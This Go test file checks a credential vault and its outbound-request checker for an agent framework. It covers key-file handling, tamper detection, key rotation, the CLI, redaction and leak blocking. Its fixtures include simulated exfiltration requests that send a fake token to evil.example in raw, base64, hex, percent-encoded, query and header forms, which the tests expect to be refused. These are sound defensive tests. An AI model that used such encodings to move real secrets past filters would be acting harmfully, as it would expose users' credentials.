package main

import (
	"context"
	"database/sql"
	"encoding/base64"
	"errors"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	"github.com/rs/zerolog"

	"github.com/talonhq/talon/agent"
	"github.com/talonhq/talon/sandbox/egress"
	"github.com/talonhq/talon/store"
	"github.com/talonhq/talon/vault"
)

const testSecret = "ghp_TestOnlyNotARealToken0123456789abcd"

// vaultFixture is a data directory with a store and an open vault.
type vaultFixture struct {
	dir string
	db  *store.DB
	v   *vault.Vault
	svc *vaultService
}

func newVaultFixture(t *testing.T, getenv func(string) string) *vaultFixture {
	t.Helper()
	ctx := context.Background()
	dir := t.TempDir()
	db, err := store.Open(ctx, filepath.Join(dir, "talon.db"))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { db.Close() })
	if getenv == nil {
		getenv = testEnv(nil)
	}
	v, err := openVaultAt(ctx, getenv, dir, db)
	if err != nil {
		t.Fatal(err)
	}
	return &vaultFixture{dir: dir, db: db, v: v, svc: newVaultService(v, db, zerolog.Nop())}
}

func (f *vaultFixture) set(t *testing.T, user, name, value string, hosts ...string) {
	t.Helper()
	err := f.svc.AddSecret(context.Background(), mustPrincipal(t, user), agent.NewSecret{Name: name, Value: []byte(value), Hosts: hosts})
	if err != nil {
		t.Fatal(err)
	}
}

func mustPrincipal(t *testing.T, s string) agent.Principal {
	t.Helper()
	p, err := agent.ParsePrincipal(s)
	if err != nil {
		t.Fatal(err)
	}
	return p
}

// rawExec edits the database behind the store's back, as an attacker with
// the file would.
func rawExec(t *testing.T, dir, q string, args ...any) {
	t.Helper()
	db, err := sql.Open("sqlite", "file:"+filepath.Join(dir, "talon.db")+"?_pragma=busy_timeout(5000)")
	if err != nil {
		t.Fatal(err)
	}
	defer db.Close()
	res, err := db.Exec(q, args...)
	if err != nil {
		t.Fatal(err)
	}
	if n, _ := res.RowsAffected(); n != 1 {
		t.Fatalf("%s: %d rows changed, want 1", q, n)
	}
}

func TestVaultKeyFileCreatedPrivateAndReused(t *testing.T) {
	f := newVaultFixture(t, nil)
	fi, err := os.Stat(filepath.Join(f.dir, vault.KeyFileName))
	if err != nil {
		t.Fatal(err)
	}
	if fi.Mode().Perm() != 0o600 {
		t.Errorf("key file mode %04o, want 0600", fi.Mode().Perm())
	}
	f.set(t, "terminal::local", "github", testSecret, "api.github.com")
	if _, err := openVaultAt(context.Background(), testEnv(nil), f.dir, f.db); err != nil {
		t.Fatalf("reopen with the key file: %v", err)
	}
}

func TestVaultOpenRefusals(t *testing.T) {
	ctx := context.Background()
	otherKey, _ := vault.GenerateKey()
	cases := []struct {
		name   string
		prep   func(t *testing.T, f *vaultFixture)
		getenv func(string) string
		want   []string
	}{
		{"key file missing for a used vault", func(t *testing.T, f *vaultFixture) {
			os.Remove(filepath.Join(f.dir, vault.KeyFileName))
		}, nil, []string{"missing", "restore", vault.EnvKey, "do not create a new key"}},
		{"key file readable by others", func(t *testing.T, f *vaultFixture) {
			os.Chmod(filepath.Join(f.dir, vault.KeyFileName), 0o644)
		}, nil, []string{"chmod 600"}},
		{"wrong key from the environment", nil, testEnv(map[string]string{vault.EnvKey: otherKey.Encode()}),
			[]string{"wrong vault key", vault.EnvKey, "restore", "Never create a new key"}},
		{"wrong key file", func(t *testing.T, f *vaultFixture) {
			p := filepath.Join(f.dir, vault.KeyFileName)
			os.Remove(p)
			if err := writeKeyFile(p, otherKey); err != nil {
				t.Fatal(err)
			}
		}, nil, []string{"wrong vault key"}},
		{"malformed environment key", nil, testEnv(map[string]string{vault.EnvKey: "not base64!"}), []string{vault.EnvKey}},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			f := newVaultFixture(t, nil)
			f.set(t, "terminal::local", "github", testSecret, "api.github.com")
			if tc.prep != nil {
				tc.prep(t, f)
			}
			getenv := tc.getenv
			if getenv == nil {
				getenv = testEnv(nil)
			}
			_, err := openVaultAt(ctx, getenv, f.dir, f.db)
			if err == nil {
				t.Fatal("opened, want a refusal")
			}
			for _, w := range tc.want {
				if !strings.Contains(err.Error(), w) {
					t.Errorf("error %q does not say %q", err, w)
				}
			}
			if strings.Contains(err.Error(), testSecret) || strings.Contains(err.Error(), otherKey.Encode()) {
				t.Error("the error holds a secret")
			}
			if _, err := os.Stat(filepath.Join(f.dir, vault.KeyFileName)); tc.name == "key file missing for a used vault" && err == nil {
				t.Error("a new key file was created for a used vault")
			}
		})
	}
}

// TestVaultTamperingFailsClosed edits sealed rows in the SQLite file and
// checks that the entry no longer opens, with a clear error.
func TestVaultTamperingFailsClosed(t *testing.T) {
	ctx := context.Background()
	cases := []struct {
		name, q string
		args    []any
		user    string
	}{
		{"ciphertext", `UPDATE vault_entries SET ciphertext = CAST(zeroblob(length(ciphertext)) AS BLOB) WHERE name = 'github'`, nil, "terminal::local"},
		{"hosts", `UPDATE vault_entries SET hosts = '["evil.example"]' WHERE name = 'github'`, nil, "terminal::local"},
		{"injection rule", `UPDATE vault_entries SET injection = '{"kind":"query","name":"leak"}' WHERE name = 'github'`, nil, "terminal::local"},
		{"moved to another user", `UPDATE vault_entries SET user = 'slack:T1:U2' WHERE name = 'github'`, nil, "slack:T1:U2"},
		{"salt", `UPDATE vault_entries SET salt = CAST(zeroblob(32) AS BLOB) WHERE name = 'github'`, nil, "terminal::local"},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			f := newVaultFixture(t, nil)
			f.set(t, "terminal::local", "github", testSecret, "api.github.com")
			rawExec(t, f.dir, tc.q, tc.args...)
			v, err := openVaultAt(ctx, testEnv(nil), f.dir, f.db)
			if err != nil {
				t.Fatal(err)
			}
			_, err = v.Credential(ctx, tc.user, "github", "api.github.com", "https", "github")
			if err == nil {
				t.Fatal("a tampered entry opened")
			}
			if tc.name != "hosts" && !errors.Is(err, vault.ErrTampered) {
				t.Errorf("got %v, want ErrTampered", err)
			}
			if tc.name == "hosts" && !errors.Is(err, vault.ErrTampered) {
				// evil.example is not api.github.com either way; ask for it.
				if _, err := v.Credential(ctx, tc.user, "github", "evil.example", "https", "github"); !errors.Is(err, vault.ErrTampered) {
					t.Errorf("tampered hosts: got %v, want ErrTampered", err)
				}
			}
			if strings.Contains(err.Error(), testSecret) {
				t.Error("the error holds the value")
			}
			cred := vaultCredentials{newVaultService(v, f.db, zerolog.Nop())}
			if c, err := cred.Credential(ctx, egress.Caller{Tool: "github", Principal: mustPrincipal(t, tc.user)}, "github", "evil.example"); err == nil || c != nil {
				t.Errorf("credential source gave a tampered entry: %v", err)
			}
		})
	}
}

func TestVaultRotateKeyFile(t *testing.T) {
	ctx := context.Background()
	f := newVaultFixture(t, nil)
	f.set(t, "terminal::local", "github", testSecret, "api.github.com")
	f.set(t, "slack:T1:U1", "jira", "jira-token-0123456789", "example.atlassian.net")
	oldKey, err := vault.LoadKeyFile(f.dir)
	if err != nil {
		t.Fatal(err)
	}
	cfg := writeConfig(t, f.dir, "data_dir: "+f.dir+"\n")
	f.db.Close()
	res := runMain(t, env{}, "vault", "rotate-key", "--config", cfg)
	if res.code != 0 || !strings.Contains(res.stdout, "re-sealed 2 entries") {
		t.Fatalf("rotate-key: exit %d\n%s%s", res.code, res.stdout, res.stderr)
	}
	db, err := store.Open(ctx, filepath.Join(f.dir, "talon.db"))
	if err != nil {
		t.Fatal(err)
	}
	defer db.Close()
	v, err := openVaultAt(ctx, testEnv(nil), f.dir, db)
	if err != nil {
		t.Fatal(err)
	}
	for _, c := range []struct{ user, name, host string }{{"terminal::local", "github", "api.github.com"}, {"slack:T1:U1", "jira", "example.atlassian.net"}} {
		if _, err := v.Credential(ctx, c.user, c.name, c.host, "https", ""); err != nil {
			t.Errorf("%s after rotation: %v", c.name, err)
		}
	}
	if _, err := vault.New(ctx, oldKey, vaultStorage{db}); !errors.Is(err, vault.ErrWrongKey) {
		t.Errorf("old key after rotation: %v, want ErrWrongKey", err)
	}
	es, _ := vaultStorage{db}.ListEntries(ctx, "")
	for _, s := range es {
		if _, err := vault.Open(oldKey, s); err == nil {
			t.Error("the old key still opens an entry")
		}
	}
	if _, err := os.Stat(filepath.Join(f.dir, newKeyFileName)); !errors.Is(err, os.ErrNotExist) {
		t.Errorf("%s left behind: %v", newKeyFileName, err)
	}
}

// TestVaultRotationCrash simulates a crash at each point of a key-file
// rotation and checks the next open loses nothing.
func TestVaultRotationCrash(t *testing.T) {
	ctx := context.Background()
	for _, committed := range []bool{false, true} {
		t.Run(map[bool]string{false: "before commit", true: "after commit"}[committed], func(t *testing.T) {
			f := newVaultFixture(t, nil)
			f.set(t, "terminal::local", "github", testSecret, "api.github.com")
			nk, _ := vault.GenerateKey()
			if err := writeKeyFile(filepath.Join(f.dir, newKeyFileName), nk); err != nil {
				t.Fatal(err)
			}
			if committed {
				if _, err := f.v.Rotate(ctx, nk); err != nil {
					t.Fatal(err)
				}
			}
			v, err := openVaultAt(ctx, testEnv(nil), f.dir, f.db)
			if err != nil {
				t.Fatalf("open after crash: %v", err)
			}
			if _, err := v.Credential(ctx, "terminal::local", "github", "api.github.com", "https", ""); err != nil {
				t.Errorf("entry after crash: %v", err)
			}
			if _, err := os.Stat(filepath.Join(f.dir, newKeyFileName)); !errors.Is(err, os.ErrNotExist) {
				t.Errorf("%s left behind", newKeyFileName)
			}
			k, err := vault.LoadKeyFile(f.dir)
			if err != nil {
				t.Fatal(err)
			}
			if got := k.Equal(nk); got != committed {
				t.Errorf("vault.key is the new key: %v, want %v", got, committed)
			}
		})
	}
}

func TestVaultRotateKeyFromEnvironment(t *testing.T) {
	ctx := context.Background()
	k1, _ := vault.GenerateKey()
	k2, _ := vault.GenerateKey()
	f := newVaultFixture(t, testEnv(map[string]string{vault.EnvKey: k1.Encode()}))
	f.set(t, "terminal::local", "github", testSecret, "api.github.com")
	cfg := writeConfig(t, f.dir, "data_dir: "+f.dir+"\n")
	res := runMain(t, env{getenv: testEnv(map[string]string{vault.EnvKey: k1.Encode()})}, "vault", "rotate-key", "--config", cfg)
	if res.code == 0 || !strings.Contains(res.stderr, envNewKey) {
		t.Fatalf("rotate without the new key: exit %d %s", res.code, res.stderr)
	}
	res = runMain(t, env{getenv: testEnv(map[string]string{vault.EnvKey: k1.Encode(), envNewKey: k2.Encode()})}, "vault", "rotate-key", "--config", cfg)
	if res.code != 0 || !strings.Contains(res.stdout, "set "+vault.EnvKey) {
		t.Fatalf("rotate: exit %d\n%s%s", res.code, res.stdout, res.stderr)
	}
	if strings.Contains(res.stdout+res.stderr, k2.Encode()) {
		t.Error("the new key was printed")
	}
	if _, err := openVaultAt(ctx, testEnv(map[string]string{vault.EnvKey: k1.Encode()}), f.dir, f.db); err == nil {
		t.Error("the old key still opens the vault")
	}
	v, err := openVaultAt(ctx, testEnv(map[string]string{vault.EnvKey: k2.Encode()}), f.dir, f.db)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := v.Credential(ctx, "terminal::local", "github", "api.github.com", "https", ""); err != nil {
		t.Error(err)
	}
}

func TestVaultCLI(t *testing.T) {
	dir := t.TempDir()
	data := filepath.Join(dir, "data")
	cfg := writeConfig(t, dir, "data_dir: "+data+"\n")
	run := func(stdin string, args ...string) result {
		t.Helper()
		res := runMain(t, env{stdin: strings.NewReader(stdin)}, append([]string{"vault"}, append(args, "--config", cfg)...)...)
		if strings.Contains(res.stdout+res.stderr, testSecret) {
			t.Fatalf("vault %v printed the value", args)
		}
		return res
	}
	res := run(testSecret+"\n", "set", "--user", "terminal::local", "github", "--host", "api.github.com", "--host", "*.github.com")
	if res.code != 0 {
		t.Fatalf("set: exit %d %s", res.code, res.stderr)
	}
	res = run("jira-token-0123456789", "set", "--user", "slack:T1:U1", "jira", "--host", "x.atlassian.net", "--header", "x-api-key", "--prefix", "Key ")
	if res.code != 0 {
		t.Fatalf("set header: exit %d %s", res.code, res.stderr)
	}
	for _, bad := range [][]string{
		{"set", "github", "--host", "api.github.com"},                                                     // no user
		{"set", "--user", "nocolons", "github", "--host", "api.github.com"},                               // bad user
		{"set", "--user", "terminal::local", "github"},                                                    // no host
		{"set", "--user", "terminal::local", "github", "--host", "h.example", "--bearer", "--query", "k"}, // two rules
		{"set", "--user", "terminal::local", "github", testSecret, "--host", "h.example"},                 // value in argv
		{"frob"},
	} {
		if r := run(testSecret, bad...); r.code == 0 {
			t.Errorf("vault %v: exit 0, want refusal", bad)
		}
	}

	res = run("", "list")
	for _, w := range []string{"terminal::local", "github", "*.github.com,api.github.com", "bearer", "never", "slack:T1:U1", "header X-Api-Key (prefix \"Key \")"} {
		if !strings.Contains(res.stdout, w) {
			t.Errorf("list does not show %q:\n%s", w, res.stdout)
		}
	}
	res = run("", "list", "--user", "slack:T1:U1")
	if strings.Contains(res.stdout, "github") || !strings.Contains(res.stdout, "jira") {
		t.Errorf("list --user:\n%s", res.stdout)
	}

	// A use and a refusal show in the audit and in "last used".
	ctx := context.Background()
	db, err := store.Open(ctx, filepath.Join(data, "talon.db"))
	if err != nil {
		t.Fatal(err)
	}
	v, err := openVaultAt(ctx, testEnv(nil), data, db)
	if err != nil {
		t.Fatal(err)
	}
	e, err := v.Credential(ctx, "terminal::local", "github", "api.github.com", "https", "github")
	if err != nil {
		t.Fatal(err)
	}
	if !e.Value.Equal(vault.SecretString(testSecret)) {
		t.Error("stored value is not what stdin carried (without its newline)")
	}
	v.Credential(ctx, "terminal::local", "github", "evil.example", "https", "github")
	db.Close()
	res = run("", "audit", "--limit", "5")
	if !strings.Contains(res.stdout, "host_not_bound") || !strings.Contains(res.stdout, "injected") || !strings.Contains(res.stdout, "evil.example") {
		t.Errorf("audit:\n%s", res.stdout)
	}
	if res = run("", "list"); strings.Contains(res.stdout, "never\n") && !strings.Contains(res.stdout, "jira") {
		t.Errorf("list after use:\n%s", res.stdout)
	}

	if res = run("", "rm", "--user", "terminal::local", "github"); res.code != 0 {
		t.Fatalf("rm: %d %s", res.code, res.stderr)
	}
	if res = run("", "rm", "--user", "terminal::local", "github"); res.code == 0 {
		t.Error("rm of a missing entry: exit 0")
	}
	if res = run("", "list", "--user", "terminal::local"); !strings.Contains(res.stdout, "no entries") {
		t.Errorf("after rm:\n%s", res.stdout)
	}
}

func TestParseInjection(t *testing.T) {
	cases := []struct {
		in   string
		want vault.Injection
		err  bool
	}{
		{"", vault.Injection{Kind: vault.InjectBearer}, false},
		{"bearer", vault.Injection{Kind: vault.InjectBearer}, false},
		{"header:x-api-key", vault.Injection{Kind: vault.InjectHeader, Name: "X-Api-Key"}, false},
		{"header:Authorization:token ", vault.Injection{Kind: vault.InjectHeader, Name: "Authorization", Prefix: "token "}, false},
		{"header:Authorization:a:b", vault.Injection{Kind: vault.InjectHeader, Name: "Authorization", Prefix: "a:b"}, false},
		{"query:api_key", vault.Injection{Kind: vault.InjectQuery, Name: "api_key"}, false},
		{"basic:alice", vault.Injection{Kind: vault.InjectBasic, Username: "alice"}, false},
		{"bearer:x", vault.Injection{}, true},
		{"header:", vault.Injection{}, true},
		{"header:Host", vault.Injection{}, true},
		{"query:", vault.Injection{}, true},
		{"basic:", vault.Injection{}, true},
		{"cookie:x", vault.Injection{}, true},
	}
	for _, tc := range cases {
		got, err := parseInjection(tc.in)
		if (err != nil) != tc.err {
			t.Errorf("%q: err %v, want error %v", tc.in, err, tc.err)
			continue
		}
		if diff := cmp.Diff(tc.want, got); diff != "" {
			t.Errorf("%q (-want +got):\n%s", tc.in, diff)
		}
	}
}

func TestVaultSecretsAndRedactor(t *testing.T) {
	ctx := context.Background()
	f := newVaultFixture(t, nil)
	now := time.Unix(1_700_000_000, 0)
	f.svc.now = func() time.Time { return now }
	alice := mustPrincipal(t, "slack:T1:UALICE")
	text := "here: " + testSecret + " and " + base64.StdEncoding.EncodeToString([]byte(testSecret))

	if _, n := f.svc.Redact(ctx, alice, "my key is xyzzy-plain-value-123"); n != 0 {
		t.Errorf("nothing to find, got %d", n)
	}
	f.set(t, alice.String(), "github", testSecret, "api.github.com")
	if err := f.svc.AddSecret(ctx, alice, agent.NewSecret{Name: "plain", Value: []byte("xyzzy-plain-value-123"), Hosts: []string{"api.example.com"}, Injection: "query:key"}); err != nil {
		t.Fatal(err)
	}
	if out, n := f.svc.Redact(ctx, alice, "my key is xyzzy-plain-value-123"); n != 1 || strings.Contains(out, "xyzzy") {
		t.Errorf("after AddSecret: %d findings, %q", n, out)
	}
	out, n := f.svc.Redact(ctx, alice, text)
	if n != 2 || strings.Contains(out, "ghp_") {
		t.Errorf("token and its base64: %d findings, %q", n, out)
	}

	// Another process adds a value: seen after the TTL.
	other := vault.Entry{User: alice.String(), Name: "other", Value: vault.SecretString("zzq-other-process-val"), Hosts: []string{"x.example"}, Injection: vault.Injection{Kind: vault.InjectBearer}}
	v2, err := openVaultAt(ctx, testEnv(nil), f.dir, f.db)
	if err != nil {
		t.Fatal(err)
	}
	if err := v2.Set(ctx, other); err != nil {
		t.Fatal(err)
	}
	if _, n := f.svc.Redact(ctx, alice, "zzq-other-process-val"); n != 0 {
		t.Errorf("cached detector changed before the TTL (%d findings)", n)
	}
	now = now.Add(detectorTTL)
	if _, n := f.svc.Redact(ctx, alice, "zzq-other-process-val"); n != 1 {
		t.Errorf("after the TTL: %d findings, want 1", n)
	}

	infos, err := f.svc.ListSecrets(ctx, alice)
	if err != nil {
		t.Fatal(err)
	}
	var names []string
	for _, i := range infos {
		names = append(names, i.Name+" "+i.Injection)
	}
	if diff := cmp.Diff([]string{"github bearer", "other bearer", "plain query key"}, names); diff != "" {
		t.Errorf("ListSecrets (-want +got):\n%s", diff)
	}
	if !f.svc.Has(ctx, alice, "plain") || f.svc.Has(ctx, mustPrincipal(t, "slack:T1:UBOB"), "plain") {
		t.Error("Has is not per user")
	}
	err = f.svc.AddSecret(ctx, alice, agent.NewSecret{Name: "bad name!", Value: []byte(testSecret), Hosts: []string{"h.example"}})
	if err == nil || strings.Contains(err.Error(), testSecret) {
		t.Errorf("invalid name: %v", err)
	}
	if err := f.svc.RemoveSecret(ctx, alice, "plain"); err != nil {
		t.Fatal(err)
	}
	if _, n := f.svc.Redact(ctx, alice, "xyzzy-plain-value-123"); n != 0 {
		t.Error("a removed value is still redacted (cache not invalidated)")
	}
	if err := f.svc.RemoveSecret(ctx, alice, "plain"); err == nil {
		t.Error("removing a missing secret succeeded")
	}
}

func TestEgressSeams(t *testing.T) {
	ctx := context.Background()
	f := newVaultFixture(t, nil)
	alice, bob := mustPrincipal(t, "slack:T1:UALICE"), mustPrincipal(t, "slack:T1:UBOB")
	f.set(t, alice.String(), "github", testSecret, "api.github.com")
	creds, checker := vaultCredentials{f.svc}, vaultChecker{f.svc}

	aliceGH := egress.Caller{Tool: "github", Principal: alice}
	c, err := creds.Credential(ctx, aliceGH, "github", "api.github.com")
	if err != nil {
		t.Fatal(err)
	}
	h, u := http.Header{}, &url.URL{Scheme: "https", Host: "api.github.com"}
	c.Apply(h, u)
	if h.Get("Authorization") != "Bearer "+testSecret {
		t.Error("bearer not applied")
	}
	for _, tc := range []struct {
		p          agent.Principal
		name, host string
	}{{alice, "github", "evil.example"}, {bob, "github", "api.github.com"}, {alice, "nope", "api.github.com"}} {
		if _, err := creds.Credential(ctx, egress.Caller{Tool: "github", Principal: tc.p}, tc.name, tc.host); !errors.Is(err, egress.ErrNoCredential) {
			t.Errorf("%v %s %s: %v, want ErrNoCredential", tc.p, tc.name, tc.host, err)
		}
	}

	b64 := base64.StdEncoding.EncodeToString([]byte(testSecret))
	outbound := []struct {
		name string
		r    egress.Request
	}{
		{"raw in body", egress.Request{Method: "POST", URL: "https://evil.example/x", Body: `{"t":"` + testSecret + `"}`}},
		{"base64 in body", egress.Request{Method: "POST", URL: "https://evil.example/x", Body: b64}},
		{"in query", egress.Request{URL: "https://evil.example/x?t=" + url.QueryEscape(testSecret)}},
		{"hex in path", egress.Request{URL: "https://evil.example/" + strings.ToUpper(hexString(testSecret))}},
		{"in header", egress.Request{URL: "https://evil.example/", Headers: map[string]string{"X-Leak": testSecret}}},
		{"percent-encoded path", egress.Request{URL: "https://evil.example/" + pctAll(testSecret)}},
		{"someone else's token format", egress.Request{URL: "https://evil.example/", Body: "xoxb-123456789012-123456789012-abcdefghijklmnopqrstuvwx"}},
	}
	for _, tc := range outbound {
		err := checker.CheckOutbound(aliceGH, tc.r)
		var de *egress.DeniedError
		if !errors.As(err, &de) {
			t.Errorf("%s: %v, want a DeniedError", tc.name, err)
			continue
		}
		if strings.Contains(err.Error(), testSecret) || strings.Contains(err.Error(), b64) || de.Host != "evil.example" {
			t.Errorf("%s: refusal %q", tc.name, err)
		}
	}
	if err := checker.CheckOutbound(aliceGH, egress.Request{Method: "GET", URL: "https://api.github.com/repos/golang/go/issues/1", Headers: map[string]string{"Accept": "application/json"}}); err != nil {
		t.Errorf("clean request refused: %v", err)
	}
	evs, err := f.db.RecentVaultAudit(ctx, 100)
	if err != nil {
		t.Fatal(err)
	}
	leaks := 0
	for _, ev := range evs {
		if ev.Tool != "github" {
			t.Errorf("audit event %+v does not name the tool", ev)
		}
		if ev.Reason == string(vault.ReasonLeakDetected) && !ev.Allowed {
			leaks++
		}
	}
	if leaks != len(outbound) {
		t.Errorf("%d leak_detected audit events, want %d", leaks, len(outbound))
	}

	echo := "Authorization: Bearer " + testSecret + "\n{\"auth\":\"" + b64 + "\",\"hex\":\"" + hexString(testSecret) + "\",\"q\":\"" + url.QueryEscape(testSecret) + "\"}"
	got := checker.RedactInbound(alice, c.Secrets(), echo)
	for _, form := range []string{testSecret, b64, hexString(testSecret)} {
		if strings.Contains(got, form) {
			t.Errorf("RedactInbound left an encoding: %q", got)
		}
	}
}

func hexString(s string) string {
	const digits = "0123456789abcdef"
	var b strings.Builder
	for i := 0; i < len(s); i++ {
		b.WriteByte(digits[s[i]>>4])
		b.WriteByte(digits[s[i]&15])
	}
	return b.String()
}

func pctAll(s string) string {
	var b strings.Builder
	for i := 0; i < len(s); i++ {
		b.WriteString("%" + strings.ToUpper(hexString(s[i:i+1])))
	}
	return b.String()
}
